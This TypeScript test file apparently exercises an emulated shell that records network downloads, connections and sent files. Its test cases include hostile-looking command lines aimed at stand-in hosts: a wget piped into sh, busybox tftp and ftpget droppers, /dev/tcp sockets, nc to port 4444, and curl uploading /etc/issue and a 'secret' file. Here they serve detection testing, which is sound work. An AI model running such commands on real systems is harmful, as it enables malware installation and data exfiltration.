import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Internet } from '../../system.ts'
import { runLine, testComputer } from '../../testing.ts'
import { curlOptions } from './curl-options.ts'
import { curlUrl, globbed } from './curl-url.ts'
import { bar, decimal, dots, humanSize, rateText, shortTime } from './wget-progress.ts'
import { wgetUrl } from './wget-url.ts'

/** A network in which everything is a millisecond away. */
const near: Internet = {
  resolve: name => (name.endsWith('.invalid') ? undefined : { v4: /^[\d.]+$/.test(name) ? name : '203.0.113.5' }),
  connect: (_, port) => (port === 81 ? { seconds: 0, refused: 'ECONNREFUSED' } : { seconds: 0.001 }),
  fetch: url => ({
    status: 200,
    type: 'text/plain',
    body: Buffer.from(`got ${url}\n`),
    server: 'nginx',
    modified: 0,
    seconds: 0.001,
  }),
  made: data => data.toString().startsWith('got '),
}
const run = (line: string) => runLine(line, { computer: testComputer(near) })
const urls = async (line: string): Promise<string[]> =>
  (await run(line)).seen.filter(one => one.what === 'download').map(one => (one.details as { url: string }).url)

const fetchers: readonly [line: string, url: string][] = [
  ['wget -q http://203.0.113.5/a', 'http://203.0.113.5/a'],
  ['wget -qO- 203.0.113.5:8080/a.sh | sh', 'http://203.0.113.5:8080/a.sh'],
  ['wget --no-check-certificate -t 1 -T 5 -U x -nv -nc https://a.example/x', 'https://a.example/x'],
  ['wget -q -i - <<< http://a.example/l', 'http://a.example/l'],
  ['wget -q ftp://u:p@a.example/f', 'ftp://a.example/f'],
  ['wget -b -q http://a.example/b', 'http://a.example/b'],
  ['curl -fsSLk -A x -m 9 http://a.example/c', 'http://a.example/c'],
  ['curl -s a.example/d -o /tmp/d', 'http://a.example/d'],
  ['curl -s --url http://a.example/e', 'http://a.example/e'],
  ['curl -x 198.51.100.1:3128 -s http://a.example/p', 'http://a.example/p'],
  ['busybox wget -q http://a.example/g', 'http://a.example/g'],
  ['busybox tftp -g -l /tmp/x -r h 203.0.113.5', 'tftp://203.0.113.5/h'],
  ['busybox ftpget -u a -p b 203.0.113.5 /tmp/y i', 'ftp://203.0.113.5/i'],
  ['cp /bin/busybox /tmp/busybox; /tmp/busybox wget -q http://a.example/j', 'http://a.example/j'],
  ['cp /usr/bin/curl /tmp/k; /tmp/k -s http://a.example/k', 'http://a.example/k'],
  ['ftp -V http://a.example/m', 'http://a.example/m'],
  ['printf "open 203.0.113.5\\nget n\\nquit\\n" | ftp -n', 'ftp://203.0.113.5/n'],
  [`printf 'GET /q HTTP/1.0\\r\\n\\r\\n' | nc 203.0.113.5 80`, 'http://203.0.113.5/q'],
  [`exec 3<>/dev/tcp/203.0.113.5/8080; printf 'GET /r HTTP/1.0\\r\\n\\r\\n' >&3`, 'http://203.0.113.5:8080/r'],
  ['git clone -q https://a.example/o.git', 'https://a.example/o.git'],
]
for (const [line, url] of fetchers)
  test(`the URL is told: ${line}`, async () => assert.deepEqual(await urls(line), [url]))

const connections: readonly [line: string, host: string, port: number, sent?: string][] = [
  ['echo hi | nc 203.0.113.5 4444', '203.0.113.5', 4444, 'hi\n'],
  ['nc -z 203.0.113.5 22', '203.0.113.5', 22],
  ['nc 203.0.113.5 81', '203.0.113.5', 81],
  ['echo hi > /dev/tcp/203.0.113.5/9', '203.0.113.5', 9, 'hi\n'],
  ['echo hi > /dev/udp/203.0.113.5/9', '203.0.113.5', 9, 'hi\n'],
  ['telnet 203.0.113.5 81', '203.0.113.5', 81],
  ['echo x | busybox nc 203.0.113.5 5', '203.0.113.5', 5, 'x\n'],
  ['curl -s -d @- http://a.example/ < /etc/issue', 'a.example', 80, 'Debian GNU/Linux 12 \\n \\l'],
  ['ping -c 1 203.0.113.5', '203.0.113.5', 0],
  ['dig a.example', 'a.example', 53],
]
for (const [line, host, port, sent] of connections)
  test(`the connection is told: ${line}`, async () => {
    const found = (await run(line)).seen
      .filter(one => one.what === 'connection')
      .map(one => one.details as { host: string; port: number; sent?: Buffer })
    assert.equal(found.length, 1)
    assert.deepEqual(
      { host: found[0]!.host, port: found[0]!.port, sent: found[0]!.sent?.toString() },
      { host, port, sent },
    )
  })

test('a file that is sent is kept', async () => {
  const { seen } = await run('echo secret > /tmp/f; curl -s -T /tmp/f http://a.example/')
  assert.ok(seen.some(one => one.what === 'file' && (one.details as { fate: string }).fate === 'sent'))
})

test('what our own network made is no finding when it is left', async () => {
  const { seen } = await run('wget -q -O /tmp/left http://a.example/x')
  assert.deepEqual(
    seen.filter(one => one.what === 'file'),
    [],
  )
})

test('a request through nc or /dev/tcp is answered', async () => {
  const piped = await run(`printf 'GET /x HTTP/1.0\\r\\n\\r\\n' | nc 203.0.113.5 80 | tail -1`)
  assert.equal(piped.stdout, 'got http://203.0.113.5/x\n')
  const opened = await run(
    `exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /y HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n' >&3; cat <&3 | tail -1`,
  )
  assert.equal(opened.stdout, 'got http://a.example/y\n')
})

test('/etc/hosts comes before the network', async () => {
  const { stdout } = await run(
    'echo "127.0.0.1 a.example" >> /etc/hosts; curl -s -o /dev/null -w "%{remote_ip}" a.example',
  )
  assert.equal(stdout, '127.0.0.1')
})

test('wget numbers files that are there already', async () => {
  const { stdout } = await run('cd /tmp; wget -q a.example/x; wget -q a.example/x; wget -q -nc a.example/x; ls x*')
  assert.equal(stdout, 'x\nx.1\n')
})

test('wget -c takes the rest', async () => {
  const { stdout, stderr } = await run('cd /tmp; printf "got " > x; wget -c http://a.example/x; cat x')
  assert.equal(stdout, 'got http://a.example/x\n')
  assert.match(stderr, /206 Partial Content\nLength: 23, 19 remaining \[text\/plain\]/)
})

test('ping tells what it learnt when it is interrupted', async () => {
  const { stdout, status } = await run('timeout -s INT 0.2 ping 203.0.113.5')
  assert.match(stdout, /1 packets transmitted, 1 received, 0% packet loss, time 0ms\nrtt min\/avg\/max\/mdev = /)
  assert.equal(status, 124)
})

test('sizes and times as wget writes them', () => {
  assert.deepEqual(
    [1023, 1024, 10_239, 146_000, 5e9].map(size => humanSize(size)),
    ['1023', '1.0K', '10.0K', '143K', '4.7G'],
  )
  assert.deepEqual([0, 0.0007, 0.04, 0.94, 3.21, 42].map(decimal), ['0', '0.001', '0.04', '0.9', '3.2', '42'])
  assert.deepEqual(
    [42, 150, 7265, 200_000].map(seconds => shortTime(seconds, true)),
    ['42s', '2m30s', '2h1m', '2d7h'],
  )
  assert.equal(rateText(1_500_000, 1), '1.43 MB/s')
})

const drawn = async (
  make: (out: { write(data: Buffer | string): Promise<void> }) => ReturnType<typeof dots>,
): Promise<string> => {
  let text = ''
  const progress = make({
    async write(data) {
      text += data
    },
  })
  await progress.update(0, 0)
  for (let second = 1; second <= 10; second++) await progress.update(10_240, second)
  await progress.finish(10)
  return text
}

test('slow downloads: rows of dots with rate and time left, a bar that is redrawn', async () => {
  assert.equal(
    await drawn(out => dots(out, 102_400)),
    `
     0K .......... .......... .......... .......... .......... 50% 10.0K 5s
    50K .......... .......... .......... .......... ..........100% 10.0K 0s
   100K                                                       100% 0.00 =10s

`,
  )
  const lines = (await drawn(out => bar(out, 'x', 102_400, 80))).split('\r')
  assert.equal(lines.length, 13)
  for (const line of lines.slice(1)) assert.equal(line.replace(/\n+$/, '').length, 79)
  assert.equal(lines[6], 'x                    50%[=========>          ]  50.00K  10.0KB/s    eta 5s     ')
})

test('random command lines and URLs never raise', () => {
  const pieces = [
    '-',
    '--',
    'o',
    'http://',
    'a',
    '[',
    ']',
    '{',
    '}',
    '1-3',
    ',',
    '=',
    ':',
    '/',
    '?',
    '#',
    '@',
    ' ',
    '%',
    '\0',
    '\xff',
    'data',
    'K',
    '..',
    'ftp:',
  ]
  let state = 3
  const random = (below: number): number => {
    state = (state * 48_271) % 2_147_483_647
    return state % below
  }
  for (let turn = 0; turn < 20_000; turn++) {
    const words = Array.from({ length: 1 + random(4) }, () =>
      Array.from({ length: random(8) }, () => pieces[random(pieces.length)]).join(''),
    )
    curlOptions(['curl', ...words], () => '')
    for (const word of words) {
      const urls = globbed(word)
      if (typeof urls !== 'string') for (const { url } of urls) curlUrl(url)
      wgetUrl(word)
    }
  }
})

test('a pattern of URLs stands for no more than its ceiling', () => {
  const found = globbed('http://[0-999999999].a/{a,b}{c,d}[a-z][a-z][a-z]')
  assert.ok(typeof found !== 'string' && found.length <= 128)
})
